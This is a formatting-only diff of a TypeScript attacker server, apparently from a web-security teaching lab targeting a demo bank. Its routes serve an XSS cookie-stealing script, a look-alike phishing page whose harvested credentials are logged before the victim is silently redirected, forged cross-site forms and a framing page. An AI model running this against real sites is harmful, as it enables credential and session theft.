@@ -65,7 +65,8 @@ async function route(request: Request): Promise<void> {
   if (path === "/") return send(res, 200, "text/html", indexPage(site));
   if (path === "/hook.js") return send(res, 200, "text/javascript", hookScript(site));
   if (path === "/phish") return send(res, 200, "text/html", phishingPage());
-  if (path === "/frame") return send(res, 200, "text/html", framingPage(site, url.searchParams.get("path") ?? "/dashboard"));
+  if (path === "/frame")
+    return send(res, 200, "text/html", framingPage(site, url.searchParams.get("path") ?? "/dashboard"));
   return send(res, 404, "text/html", page("Not found", "<p>Nothing here.</p>"));
 }
 
@@ -84,7 +85,8 @@ async function collect(request: Request): Promise<void> {
   if (body === null) return send(res, 413, "text/plain", "Too large");
   record(site, "stolen", request, parseBody(body, req.headers["content-type"] ?? ""));
   // The phishing form navigates here: send the victim back to the real bank, none the wiser.
-  if (req.headers.accept?.includes("text/html")) return send(res, 303, "text/plain", "", { Location: `${site.bankUrl}/dashboard` });
+  if (req.headers.accept?.includes("text/html"))
+    return send(res, 303, "text/plain", "", { Location: `${site.bankUrl}/dashboard` });
   send(res, 204, "text/plain", "", corsHeaders());
 }
 
@@ -107,7 +109,12 @@ function parseBody(body: string, contentType: string): Record<string, string> {
     try {
       const parsed: unknown = JSON.parse(body);
       if (parsed && typeof parsed === "object" && !Array.isArray(parsed)) {
-        return fieldsOf(Object.entries(parsed).map(([key, value]) => [key, typeof value === "string" ? value : JSON.stringify(value)]));
+        return fieldsOf(
+          Object.entries(parsed).map(([key, value]) => [
+            key,
+            typeof value === "string" ? value : JSON.stringify(value),
+          ]),
+        );
       }
     } catch {
       // Not JSON after all: kept as text below.
@@ -126,7 +133,14 @@ function fieldsOf(entries: Iterable<[string, string]>): Record<string, string> {
 }
 
 function record(site: Site, kind: Capture["kind"], { req, url }: Request, data: Record<string, string>): void {
-  const capture: Capture = { id: site.nextId++, at: new Date().toISOString(), kind, path: url.pathname, data, referer: req.headers.referer ?? null };
+  const capture: Capture = {
+    id: site.nextId++,
+    at: new Date().toISOString(),
+    kind,
+    path: url.pathname,
+    data,
+    referer: req.headers.referer ?? null,
+  };
   site.captures.push(capture);
   if (site.captures.length > MAX_CAPTURES) site.captures.shift();
   site.log?.(`[attacker] capture #${capture.id}: ${CAPTURE_KINDS[kind].toLowerCase()} at ${capture.path}`);
@@ -203,7 +217,10 @@ function framingPage(site: Site, path: string): string {
 function indexPage(site: Site): string {
   const links: [string, string][] = [
     ["/prize", "forged sign-out: a form that posts to the bank's /signout as it loads"],
-    ["/forge?action=/signout", "any forged form: action=<bank path>, enctype=multipart/form-data, and the fields as parameters"],
+    [
+      "/forge?action=/signout",
+      "any forged form: action=<bank path>, enctype=multipart/form-data, and the fields as parameters",
+    ],
     ["/hook.js", "XSS payload: sends document.cookie and the page's URL to /steal"],
     ["/steal?c=…", "records its parameters (an <img> or fetch from a payload)"],
     ["/phish", "a look-alike sign-in page whose form posts to /collect (the open-redirect demo)"],
@@ -223,11 +240,25 @@ function page(title: string, body: string): string {
 }
 
 function corsHeaders(): Record<string, string> {
-  return { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "Content-Type", "Access-Control-Allow-Methods": "POST" };
+  return {
+    "Access-Control-Allow-Origin": "*",
+    "Access-Control-Allow-Headers": "Content-Type",
+    "Access-Control-Allow-Methods": "POST",
+  };
 }
 
-function send(res: ServerResponse, status: number, type: string, body: string | Buffer, headers: Record<string, string> = {}): void {
-  res.writeHead(status, { "Content-Type": type.startsWith("image/") ? type : `${type}; charset=utf-8`, "Cache-Control": "no-store", ...headers });
+function send(
+  res: ServerResponse,
+  status: number,
+  type: string,
+  body: string | Buffer,
+  headers: Record<string, string> = {},
+): void {
+  res.writeHead(status, {
+    "Content-Type": type.startsWith("image/") ? type : `${type}; charset=utf-8`,
+    "Cache-Control": "no-store",
+    ...headers,
+  });
   res.end(body);
 }
 
